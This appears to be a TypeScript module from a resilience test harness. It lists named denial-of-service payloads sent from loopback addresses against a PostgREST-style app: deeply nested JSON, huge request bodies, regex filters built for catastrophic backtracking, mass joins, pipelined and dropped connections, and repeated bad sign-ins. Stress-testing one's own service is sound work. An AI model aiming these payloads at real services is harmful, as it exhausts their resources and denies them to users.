import { get, getAndDisconnect, pipeline, post, subscribe, type Target, upgrade } from './attack-requests.ts'

/** The attack of one client at one loopback address, repeated until the time is over. */
export type Attack = (target: Target, from: string) => Promise<unknown>

const repeated = (count: number, each: (at: number) => string, between = '&') =>
  Array.from({ length: count }, (_, at) => each(at)).join(between)

const ID = '10000000-0000-4000-8000-000000000001'
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth)
// Made once: creating them for each request would measure the attacker.
const CSV = Buffer.from('name\n'.repeat(3_000_000))
const BRACKETS = Buffer.alloc(19_000_000, '[')
const LONG_LIST = Buffer.from(JSON.stringify({ _seconds: 30, _league_ids: Array(400_000).fill(ID) }))

export const attacks: Readonly<Record<string, Attack>> = {
  nesting: (target, from) => post(target, from, '/rest/v1/rpc/check_invitation', `{"_token":${nested(7_000)}}`),
  'nested-rows': (target, from) => post(target, from, '/rest/v1/teams', `[{"name":${nested(7_000)}}]`),
  upgrades: (target, from) =>
    upgrade(target, from, ['//', '//[', '//:99999/', '///', '*'][Math.floor(Math.random() * 5)] ?? '//'),
  'disconnected-pages': (target, from) => getAndDisconnect(target, from, `/?x=${Math.random()}`),
  pipelined: (target, from) => pipeline(target, from, '/share-card.png', 1_500),
  streams: (target, from) => getAndDisconnect(target, from, `/changes?of=${ID}&age=1`),
  pages: (target, from) => get(target, from, `/?x=${Math.random()}`),
  bodies: (target, from) => post(target, from, '/rest/v1/teams', CSV, 'text/csv'),
  brackets: (target, from) => post(target, from, '/rest/v1/teams', BRACKETS),
  sockets: (target, from) => subscribe(target, from),
  patterns: (target, from) =>
    get(target, from, `/rest/v1/profiles?${repeated(150, (at) => `full_name=imatch.(a|b${at})+.*c`)}`),
  'few-patterns': (target, from) =>
    get(
      target,
      from,
      `/rest/v1/profiles?select=*,teams!team_players(*,matches!matches_home_team_id_fkey(*))&${repeated(8, (at) => `full_name=not.imatch.(x|y${at})+.*z${Math.random()}`)}`,
    ),
  embeds: (target, from) =>
    get(target, from, `/rest/v1/leagues?select=${repeated(60, (at) => `t${at}:teams(id)`, ',')}`),
  'some-embeds': (target, from) =>
    get(
      target,
      from,
      `/rest/v1/leagues?select=${repeated(20, (at) => `t${at}:teams(id,matches!matches_home_team_id_fkey(*))`, ',')}&x=${Math.random()}`,
    ),
  lists: (target, from) => post(target, from, '/rest/v1/rpc/leagues_changed_within', LONG_LIST),
  counts: (target, from) =>
    get(
      target,
      from,
      `/rest/v1/matches?select=*&limit=1&or=(round.gt.0,round.is.null,home_score.eq.${Math.floor(Math.random() * 1e6)})`,
      { prefer: 'count=exact' },
    ),
  'sign-ins': (target, from) =>
    post(
      target,
      from,
      '/auth/v1/token?grant_type=password',
      JSON.stringify({ email: `${Math.random()}@x.example`, password: 'a wrong one' }),
    ),
}
